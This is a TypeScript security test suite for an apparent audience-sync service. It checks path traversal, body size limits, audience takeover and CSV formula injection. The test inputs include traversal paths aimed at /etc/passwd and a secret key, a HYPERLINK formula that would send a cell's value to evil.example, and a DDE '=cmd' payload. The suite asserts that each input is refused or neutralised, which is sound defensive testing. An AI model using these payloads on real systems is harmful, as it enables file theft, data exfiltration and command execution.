import { request } from 'node:http';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { finishRun, startRun } from '../store/runs.js';
import {
  ADMIN_AUDIENCE,
  ADVERTISER,
  expectNoLeak,
  openSecurityStack,
  type SecurityStack,
} from './security.test-support.js';

/** A GET whose path is sent as written (fetch would resolve `../` before sending). */
function rawGet(url: string, path: string, key: string): Promise<{ status: number; text: string }> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve, reject) => {
    const req = request({ hostname, port, path, headers: { authorization: `Bearer ${key}` } }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (text += chunk));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
    });
    req.on('error', reject);
    req.end();
  });
}

/**
 * A POST of a large body over its own connection, answered as soon as the server answers: a server refusing a
 * body may close the connection before the client finished writing it, which fetch reports as a failure.
 */
function rawPost(
  url: string,
  path: string,
  key: string,
  body: string,
): Promise<{ status: number; text: string }> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve, reject) => {
    let answered = false;
    const req = request(
      {
        hostname,
        port,
        path,
        method: 'POST',
        agent: false,
        headers: {
          authorization: `Bearer ${key}`,
          'content-type': 'application/json',
          'content-length': Buffer.byteLength(body),
        },
      },
      (res) => {
        answered = true;
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (chunk: string) => (text += chunk));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, text }));
      },
    );
    req.on('error', (err) => {
      if (!answered) reject(err);
    });
    req.end(body);
  });
}

/** The cells of a CSV line (no quoted separators in these tests' lines). */
const cells = (line: string) => line.split(',');

/**
 * Security suite, edges: path traversal in downloads and names, oversized bodies, taking over the admins'
 * audience, and formula cells in the rejects download. Each is refused (or neutralised) and nothing changes
 * on disk or at TikTok.
 */
describe('security: traversal, body limit, audience takeover, formula cells', () => {
  let s: SecurityStack;
  beforeAll(async () => {
    s = await openSecurityStack();
  });
  afterAll(async () => {
    await s?.close();
  });

  const outside = () => s.files().then((all) => all.filter((f) => !f.startsWith('data/')));

  it('rejects downloads: traversal in the run id is a 404 for admins and a 403 for business users', async () => {
    const key = join(s.dataDir, 'secret.key');
    const paths = [
      '/api/runs/../../data/secret.key/rejects',
      '/api/runs/..%2f..%2fdata%2fsecret.key/rejects',
      '/api/runs/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd/rejects',
      `/api/runs/${encodeURIComponent(key)}/rejects`,
      '/api/runs/%2Fetc%2Fpasswd/rejects',
      '/api/runs/..%5c..%5cdata%5csecret.key/rejects',
    ];
    for (const path of paths) {
      const asAdmin = await rawGet(s.url, path, s.adminKey);
      expectNoLeak(s, asAdmin.text);
      expect(asAdmin.status, path).toBe(404);
      const asUser = await rawGet(s.url, path, s.userKey);
      expectNoLeak(s, asUser.text);
      // `../` resolved by the server may land outside /api (the web app's 404); never a file.
      expect([403, 404], path).toContain(asUser.status);
    }
    // A run record naming a file outside the rejects folder (or climbing out of it) is not served either: not
    // even the data directory's own files (the secret key, the store).
    const store = join(s.dataDir, 'db', 'PG_VERSION');
    for (const file of [
      '/etc/passwd',
      join(s.dataDir, 'rejects', '..', '..', 'sources', 'winter.csv'),
      key,
      store,
    ]) {
      const id = await startRun(s.runtime.store, { kind: 'events', params: {} });
      await finishRun(s.runtime.store, id, { status: 'succeeded', report: { rejectsFile: file } });
      const answer = await s.call('GET', `/api/runs/${id}/rejects`, s.adminKey);
      expect(answer.status, file).toBe(404);
      expect(answer.body.error).toContain("outside the data directory's rejects folder");
      expect(answer.text).not.toContain('w0@example.com');
      expect((await s.call('GET', `/api/runs/${id}/rejects`, s.userKey)).status).toBe(403);
    }
  });

  it('names with ../ create no file outside the data directory', async () => {
    const before = await outside();
    const name = '../../../../sources/canary-name';
    const segment = await s.admin<{ id: string }>('POST', '/api/segments', {
      name: `${name} segment`,
      sourceQuery: join(s.sourcesDir, 'winter.csv'),
      openToBusinessUsers: true,
    });
    const campaign = await s.call('POST', '/api/campaigns', s.userKey, {
      name: `${name} campaign`,
      segmentId: segment.id,
      templateId: s.ids.template,
      audienceName: `${name} audience`,
      controlGroupPercent: 10,
    });
    expect(campaign.status).toBe(200);
    const run = await s.call('POST', `/api/campaigns/${String(campaign.body.id)}/run`, s.userKey);
    expect((await s.settled(String(run.body.id))).status).toBe('succeeded');
    const dataFiles = (await s.files()).filter((f) => f.startsWith('data/'));
    expect(dataFiles.filter((f) => f.includes('canary'))).toEqual([]);
    expect(await outside()).toEqual(before);
    // The audience is only a name at TikTok.
    const tiktok = await s.tiktok();
    expect(tiktok.audiences.map((a) => a.name)).toContain(`${name} audience`);
  });

  it('bodies above the limit are refused with 413 and create nothing', async () => {
    const big = 'x'.repeat(1024 * 1024 + 1);
    const campaignsBefore = await s.admin<{ campaigns: unknown[] }>('GET', '/api/campaigns');
    for (const [path, body] of [
      ['/api/preview', { segmentId: s.ids.segment, templateId: s.ids.template, options: { pad: big } }],
      [
        '/api/campaigns',
        { name: 'Big', segmentId: s.ids.segment, templateId: s.ids.template, description: big },
      ],
    ] as const) {
      for (const key of [s.userKey, s.adminKey]) {
        const answer = await rawPost(s.url, path, key, JSON.stringify(body));
        expect(answer.status, path).toBe(413);
        expect(answer.text).toContain('larger than 1048576 bytes');
      }
    }
    expect((await s.admin<{ campaigns: unknown[] }>('GET', '/api/campaigns')).campaigns).toEqual(
      campaignsBefore.campaigns,
    );
  });

  it("a business user's campaign naming the admins' audience is refused with 409; TikTok's audience is unchanged", async () => {
    const before = await s.tiktok();
    const admins = before.audiences.find((a) => a.name === ADMIN_AUDIENCE);
    expect(admins?.member_counts.EMAIL_SHA256).toBe(30);
    for (const audienceName of [ADMIN_AUDIENCE, ` ${ADMIN_AUDIENCE}  `]) {
      const answer = await s.call('POST', '/api/campaigns', s.userKey, {
        name: 'Takeover',
        segmentId: s.ids.segment,
        templateId: s.ids.template,
        audienceName,
      });
      expect(answer.status).toBe(409);
      expect(answer.body.details).toMatchObject({ field: 'body.audienceName' });
      expect(answer.body.error).toContain(`custom audience "${ADMIN_AUDIENCE}"`);
    }
    // The template's own audience name, once an admin's orchestration owns it, is refused the same way.
    await s.admin('PATCH', `/api/templates/${s.ids.template}`, {
      settings: { customAudienceName: ADMIN_AUDIENCE },
    });
    const byTemplate = await s.call('POST', '/api/campaigns', s.userKey, {
      name: 'Takeover by template',
      segmentId: s.ids.segment,
      templateId: s.ids.template,
    });
    await s.admin('PATCH', `/api/templates/${s.ids.template}`, {
      settings: { customAudienceName: 'Campaign audience' },
    });
    expect(byTemplate.status).toBe(409);

    // A campaign saved while the name was free is refused at run time once an admin's run owns it.
    const campaign = await s.call('POST', '/api/campaigns', s.userKey, {
      name: 'Summer',
      segmentId: s.ids.segment,
      templateId: s.ids.template,
      audienceName: 'Summer audience',
    });
    expect(campaign.status).toBe(200);
    const o = await s.admin<{ id: string }>('POST', '/api/orchestrations', {
      name: 'Summer (admins)',
      sourceQuery: join(s.sourcesDir, 'spring.csv'),
      destinationId: s.ids.destination,
      templateId: s.ids.template,
      overrides: { customAudienceName: 'Summer audience' },
    });
    const adminRun = await s.admin<{ id: string }>('POST', `/api/orchestrations/${o.id}/run`);
    expect((await s.settled(adminRun.id)).status).toBe('succeeded');
    const middle = await s.tiktok();
    const run = await s.call('POST', `/api/campaigns/${String(campaign.body.id)}/run`, s.userKey);
    if (run.status === 200) expect((await s.settled(String(run.body.id))).status).not.toBe('succeeded');
    else expect(run.status).toBe(409);
    expect(await s.tiktok()).toEqual(middle);
    expect((await s.tiktok()).audiences.find((a) => a.name === ADMIN_AUDIENCE)).toEqual(admins);
  });

  it('formula cells in a rejects download come back neutralised, header included', async () => {
    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1;"click")', '@SUM(1)', '+1', '-2+3'];
    await writeFile(
      join(s.sourcesDir, 'formulas.csv'),
      `customer_id,email\n${formulas.map((f, i) => `f${i},"${f.replaceAll('"', '""')}"`).join('\n')}\nok,ok@example.com\n`,
    );
    const o = await s.admin<{ id: string }>('POST', '/api/orchestrations', {
      name: 'Formulas',
      sourceQuery: join(s.sourcesDir, 'formulas.csv'),
      destinationId: s.ids.destination,
      templateId: s.ids.template,
      overrides: { customAudienceName: 'Formulas audience' },
    });
    const started = await s.admin<{ id: string }>('POST', `/api/orchestrations/${o.id}/run`);
    const done = (await s.settled(started.id)) as { status: string; steps: { output: unknown }[] };
    expect(done.status).toBe('succeeded');
    const output = done.steps.map((st) => st.output as { runId?: string } | null).find((x) => x?.runId);
    const download = await s.call('GET', `/api/runs/${String(output?.runId)}/rejects`, s.adminKey);
    expect(download.status).toBe(200);
    expect(download.headers.get('x-content-type-options')).toBe('nosniff');
    const values = download.text
      .trim()
      .split('\n')
      .slice(1)
      .map((line) => line.slice(line.indexOf(',', line.indexOf(',', line.indexOf(',') + 1) + 1) + 1));
    expect(values).toHaveLength(formulas.length);
    for (const value of values) expect(value.replace(/^"/, '')).toMatch(/^'[=@+-]/);

    // A file written before the writers neutralised (or by another tool): neutralised on the way out.
    await mkdir(join(s.dataDir, 'rejects'), { recursive: true });
    const legacy = join(s.dataDir, 'rejects', 'legacy.csv');
    await writeFile(legacy, `=cmd|' /C calc'!A0,@head,email\n+1,-2+3,"=HYPERLINK(""x"")"\n`);
    const id = await startRun(s.runtime.store, { kind: 'events', params: {} });
    await finishRun(s.runtime.store, id, { status: 'succeeded', report: { rejectsFile: legacy } });
    const old = await s.call('GET', `/api/runs/${id}/rejects`, s.adminKey);
    const [header = '', row = ''] = old.text.trim().split('\n');
    expect(cells(header).slice(0, 2)).toEqual(["'=cmd|' /C calc'!A0", "'@head"]);
    expect(cells(row)).toEqual(["'+1", "'-2+3", `"'=HYPERLINK(""x"")"`]);
    expect(ADVERTISER).toMatch(/^\d{19}$/);
  });
});
